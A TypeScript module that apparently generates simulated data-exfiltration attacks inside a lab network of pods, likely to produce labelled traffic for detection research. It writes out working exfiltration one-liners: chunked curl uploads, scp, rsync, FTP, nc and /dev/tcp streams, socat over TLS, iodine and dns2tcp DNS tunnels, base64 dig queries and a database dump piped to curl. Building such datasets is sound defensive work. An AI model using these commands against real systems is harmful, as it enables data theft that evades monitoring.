import { accept, lootFile, tcp } from './plan.ts'
import type { AttackPlan, Leg, Variant } from './plan.ts'
import type { World } from '../draw-world.ts'
import type { Place } from '../place.ts'

export type Exfiltration = Omit<AttackPlan, 'service' | 'manner'>

export const exfiltration = (tool: string, attacker: Place, outside: Place, legs: Leg[], command: string, seconds: number, helpers: NonNullable<AttackPlan['helpers']> = []): Exfiltration =>
  ({ rate: null, class: 'DATA_EXFILTRATION', tool, attackers: [attacker], command, helpers, victims: [outside.address], legs, seconds })

/** Whoever holds something worth taking: any pod but the one outside and the name server. */
export const holder = (world: World) => world.random.pick(world.everyone.filter((pod) => pod.name !== 'outside' && pod.name !== 'names'))

export const udp = (source: Place, destination: Place, ports: number[]): Leg => ({ source: source.address, destination: destination.address, protocol: 'udp', ports })

/** A variant that sends one file to the pod outside over TCP. */
const sending = (name: string, service: string, heldOut: boolean, port: number | null, most: number, command: (options: { file: string, to: string, bytes: number, world: World }) => string,
  helper?: (outside: Place) => string, anyPort = false): Variant => ({
  name,
  heldOut,
  service,
  draw: (world) => {
    const attacker = holder(world)
    const outside = world.pod('outside')
    const bytes = world.random.magnitude(150_000, most)
    const file = lootFile(world, attacker, bytes)
    return exfiltration(name, attacker, outside, [tcp(attacker, outside, anyPort ? null : port === null ? [world.settings.appPort, world.settings.appTlsPort] : [port])], command({ file, to: outside.address, bytes, world }), 40, helper ? [{ pod: outside, command: helper(outside) }] : [])
  },
})

/** Where the application outside takes what is sent to it, in clear or over TLS. */
const uploadTo = ({ random, settings }: World, host: string): string => random.chance(0.4) ? `-k https://${host}:${settings.appTlsPort}/up` : `http://${host}:${settings.appPort}/up`

const kilobytes = (world: World, bytes: number) => Math.max(20, Math.round(bytes / 1000 / world.random.integer(2, 25)))

function dnsTunnel (world: World, tool: string, server: string, client: string, send: (file: string) => string): Exfiltration {
  const attacker = holder(world)
  const [names, outside] = [world.pod('names'), world.pod('outside')]
  const file = lootFile(world, attacker, world.random.magnitude(8000, 200_000))
  const command = `sleep 0.8; ${client} >/dev/null 2>&1 & p=$!; sleep ${tool === 'iodine' ? 7 : 1.5}; ${send(file)}; kill $p`
  return exfiltration(tool, attacker, outside, [udp(attacker, names, [53]), udp(names, outside, [53, 54])], command, 40, [{ pod: outside, command: `${accept(53)}${accept(54)}${server}` }])
}

export const DATA_EXFILTRATIONS: readonly Variant[] = [
  sending('curl chunks', 'http', false, null, 12_000_000, ({ file, to, bytes, world }) => {
    const chunk = Math.max(5000, Math.round(bytes / world.random.integer(5, 60)))
    return `split -a 3 -b ${chunk} ${file} ${file}.; for f in ${file}.*; do curl -s -o /dev/null --data-binary @$f ${uploadTo(world, to)}; sleep ${world.random.magnitude(5, 150) / 100}; done`
  }),
  sending('curl post', 'http', false, null, 30_000_000, ({ file, to, bytes, world }) => `curl -s -o /dev/null --limit-rate ${kilobytes(world, bytes)}k --data-binary @${file} ${uploadTo(world, to)}`),
  sending('scp out', 'ssh', false, 22, 20_000_000, ({ file, to, bytes, world }) => `scp -q -l ${kilobytes(world, bytes) * 8} ${file} alice@${to}:taken`),
  sending('rsync out', 'ssh', false, 22, 20_000_000, ({ file, to, bytes, world }) => `rsync -q --bwlimit=${kilobytes(world, bytes)} ${file} alice@${to}:taken2`),
  sending('ftp put', 'ftp', false, 21, 20_000_000, ({ file, to, bytes, world }) => `curl -s --limit-rate ${kilobytes(world, bytes)}k -T ${file} ftp://bob:letmein@${to}/taken3`, undefined, true),
  sending('nc out', 'tcp', false, 4445, 20_000_000, ({ file, to, bytes, world }) => `sleep 0.7; (while dd bs=${kilobytes(world, bytes) * 200} count=1 status=none | grep -a . ; do sleep 0.2; done) < ${file} | nc -N -n ${to} 4445`, () => `${accept(4445)}exec nc -l -n -p 4445 >/dev/null`),
  {
    name: 'dns2tcp',
    heldOut: false,
    service: 'dns',
    draw: (world) => {
      const config = `printf "listen = 0.0.0.0\\nport = 54\\nuser = nobody\\nchroot = /tmp\\ndomain = t2.example.org\\nkey = tunnel\\nresources = web:127.0.0.1:${world.settings.appPort}\\n" > d2t.conf; exec dns2tcpd -F -f d2t.conf`
      return dnsTunnel(world, 'dns2tcp', config, `dns2tcpc -z t2.example.org -k tunnel -r web -l 2222 ${world.pod('names').address}`,
        (file) => `timeout ${world.random.integer(10, 30)} curl -s -o /dev/null --data-binary @${file} http://127.0.0.1:2222/up`)
    },
  },
  {
    name: 'iodine',
    heldOut: false,
    service: 'dns',
    draw: (world) => dnsTunnel(world, 'iodine', 'exec iodined -f -c -P tunnel 172.31.9.1/24 t1.example.org', `iodine -f -r -P tunnel ${world.pod('names').address} t1.example.org`,
      (file) => `timeout ${world.random.integer(8, 25)} curl -s -o /dev/null --data-binary @${file} http://172.31.9.1:${world.settings.appPort}/up`),
  },
  {
    name: 'database-out',
    heldOut: false,
    service: 'postgres',
    draw: (world) => {
      const database = world.pod('database')
      const attacker = world.random.pick(world.everyone.filter((pod) => !['outside', 'names', 'database'].includes(pod.name)))
      const outside = world.pod('outside')
      const command = `export PGPASSWORD=app-secret; for i in $(seq ${world.random.integer(3, 12)}); do psql -q -h ${database.address} -U app postgres -c 'select * from item limit ${world.random.magnitude(500, 20_000)}' | gzip -1 | curl -s -o /dev/null --data-binary @- http://${outside.address}:${world.settings.appPort}/up; sleep ${world.random.magnitude(2, 30) / 10}; done`
      return exfiltration('psql to curl', attacker, outside, [tcp(attacker, database, [5432]), tcp(attacker, outside, [world.settings.appPort])], command, 40)
    },
  },
  sending('socat tls', 'tcp', true, 8444, 15_000_000, ({ file, to }) => `for i in $(seq 20); do sleep 0.5; socat -u FILE:${file} OPENSSL:${to}:8444,verify=0 2>/dev/null && break; done`, () => `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=x -keyout tk.pem -out tc.pem 2>/dev/null; ${accept(8444)}exec socat -u OPENSSL-LISTEN:8444,cert=tc.pem,key=tk.pem,verify=0 OPEN:/dev/null`),
  sending('bash tcp', 'tcp', true, 4446, 4_000_000, ({ file, to }) => `sleep 0.7; exec 3<>/dev/tcp/${to}/4446; split -b 30000 ${file} ${file}.; for f in ${file}.*; do cat $f >&3; sleep 0.15; done`, () => `${accept(4446)}exec nc -l -n -p 4446 >/dev/null`),
  {
    name: 'dig queries',
    heldOut: true,
    service: 'dns',
    draw: (world) => {
      const attacker = holder(world)
      const [names, outside] = [world.pod('names'), world.pod('outside')]
      const file = lootFile(world, attacker, world.random.magnitude(6000, 40_000))
      const command = `sleep 0.5; base64 -w 60 ${file} | tr '+/=' 'xyz' | while read -r a && read -r b && read -r c; do dig +tries=1 +time=1 +short @${names.address} $a.$b.$c.t1.example.org >/dev/null; sleep 0.0${world.random.integer(1, 9)}; done`
      return exfiltration('dig queries', attacker, outside, [udp(attacker, names, [53]), udp(names, outside, [53, 54])], command, 35,
        [{ pod: outside, command: `${accept(53)}exec dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address=${outside.address} --user=root --address=/t1.example.org/203.0.113.9` }])
    },
  },
]
